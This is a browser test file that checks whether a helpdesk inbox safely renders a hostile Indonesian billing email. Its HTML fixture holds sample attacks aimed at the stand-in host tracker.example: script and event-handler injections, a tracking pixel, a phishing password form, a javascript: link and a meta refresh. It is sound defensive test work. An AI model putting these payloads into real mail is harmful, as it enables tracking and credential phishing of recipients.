/** A mail that means harm, on the page: its script does not run, its picture tells nobody that it was opened, its form sends nothing. */
import type { Frame, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type BrowserDesk, LONG_MS, startBrowserDesk } from '../helpers/browser-desk.ts';
import { CHROMIUM, hasChromium } from '../helpers/chromium.ts';
import { row, said } from '../helpers/dashboard.ts';
import { PHOTO } from '../helpers/photo.ts';

if (!hasChromium) console.log(`Mail that means harm is not shown in a browser: ${CHROMIUM} is not there.`);

const TRACKER = 'https://tracker.example';
const HTML = `
<html><head>
<link rel="stylesheet" href="${TRACKER}/style.css"><meta http-equiv="refresh" content="0;url=${TRACKER}/refresh">
<style>@import "${TRACKER}/import.css"; body { background: url(${TRACKER}/background.png) }</style></head>
<body onload="parent.harmed = 'onload'">
<h2>Tagihan Anda</h2>
<script>parent.harmed = 'script'; fetch('${TRACKER}/script')</script>
<img src="${TRACKER}/open.png?who=support" alt="" width="1" height="1">
<img src="x" onerror="parent.harmed = 'onerror'">
<svg onload="parent.harmed = 'svg'"></svg><iframe src="${TRACKER}/frame"></iframe><object data="${TRACKER}/object"></object>
<form action="${TRACKER}/form" method="post"><input name="password" placeholder="Kata sandi"><button>Masuk lagi</button></form>
<a href="javascript:parent.harmed='link'">Lihat tagihan</a> <a href="${TRACKER}/page">Halaman kami</a>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">Rincian ada di lampiran.</p>
</body></html>`;

describe.skipIf(!hasChromium)(`a mail that means harm (skipped without ${CHROMIUM})`, { timeout: LONG_MS }, () => {
  let walk: BrowserDesk;
  let page: Page;
  const asked: Request[] = [];

  beforeAll(async () => {
    walk = await startBrowserDesk('browser-mail');
    page = await walk.seat('agent1', '/inbox/email');
    // Whatever gets as far as this would have gone out.
    await page.context().route(`${TRACKER}/**`, async (route) => {
      asked.push(route.request());
      await route.fulfill({ contentType: 'image/png', body: PHOTO });
    });
    await walk.flow.mail({ from: 'Tagihan <tagihan@example.net>', to: 'support@meja.local', subject: 'Tagihan bulan ini', html: HTML });
    await row(page, 'Tagihan bulan ini').click();
    await said(page, 'Tagihan Anda').waitFor();
  }, LONG_MS);
  afterAll(() => walk?.end());

  const frame = async (): Promise<Frame> => {
    const found = await (await page.getByTitle('E-mail seperti aslinya').elementHandle())?.contentFrame();
    if (!found) throw new Error('The mail stands in no frame.');
    return found;
  };
  const harmed = () => page.evaluate(() => Object.hasOwn(window, 'harmed'));

  it('is text at first, and looks as it was made when that is asked', async () => {
    await page.getByRole('button', { name: 'Tampilkan seperti aslinya' }).click();
    await (await frame()).getByText('Tagihan Anda').waitFor();

    expect(await page.getByTitle('E-mail seperti aslinya').getAttribute('sandbox')).not.toMatch(/allow-(scripts|forms|top)/);
  });

  it('is as high as the mail, without a bar to scroll by', async () => {
    const inside = await frame();
    await page.waitForFunction(() => (document.querySelector('iframe')?.clientHeight ?? 0) !== 160);

    expect(await inside.evaluate(() => document.documentElement.scrollHeight - window.innerHeight)).toBe(0);
  });

  it('runs no script, has no form, and asks its sender for nothing', async () => {
    const inside = await frame();
    await inside.getByText('Lihat tagihan').click();

    expect(await harmed()).toBe(false);
    expect(await inside.locator('body :is(script, form, input, button, iframe, object, link, style, [onload], [onerror])').count()).toBe(0);
    expect(await inside.locator('body').getAttribute('onload')).toBeNull();
    expect(await inside.locator('a[href^="javascript:"]').count()).toBe(0);
    expect(asked.map((request) => request.url())).toEqual([]);
    expect(new URL(page.url()).origin).toBe(walk.origin);
  });

  it('shows its pictures when somebody asks for them, and then the pictures alone', async () => {
    const shown = page.waitForRequest(`${TRACKER}/open.png?who=support`);
    await page.getByRole('button', { name: /^Muat gambar dari luar/ }).click();
    const request = await shown;
    await (await frame()).getByText('Tagihan Anda').waitFor();

    expect(request.headers().referer).toBeUndefined();
    expect([...new Set(asked.map((one) => one.url()))]).toEqual([`${TRACKER}/open.png?who=support`]);
    expect(await harmed()).toBe(false);
  });

  it('opens links in a window of their own, which cannot reach back', async () => {
    const opened = page.context().waitForEvent('page');
    await (await frame()).getByText('Halaman kami').click();
    const other = await opened;
    await other.waitForURL(`${TRACKER}/page`);

    expect(await other.evaluate(() => window.opener)).toBeNull();
    expect(new URL(page.url()).origin).toBe(walk.origin);
  });
});
